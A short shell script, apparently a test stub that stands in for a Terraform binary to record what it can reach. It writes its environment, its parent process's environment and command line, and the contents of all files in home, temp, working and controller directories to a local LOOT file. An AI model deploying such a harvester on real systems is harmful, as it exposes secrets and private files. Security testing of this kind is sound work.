#!/bin/sh
# Stands where Terraform stands, and copies what it can reach into the file LOOT: what a root could steal. It looks at itself, at the
# process that started it, and at files.
exec >> "LOOT" 2>/dev/null
echo "prowled as $(id -u) in $PWD"
env
echo "end of its own environment"
for process in self "$PPID"; do
  cat "/proc/$process/environ" "/proc/$process/cmdline"
  ls -l "/proc/$process/fd" "/proc/$process/cwd"
done
find "$HOME" "$TMPDIR" "$PWD" "CONTROLLER" -type f -exec cat {} +
exit 0
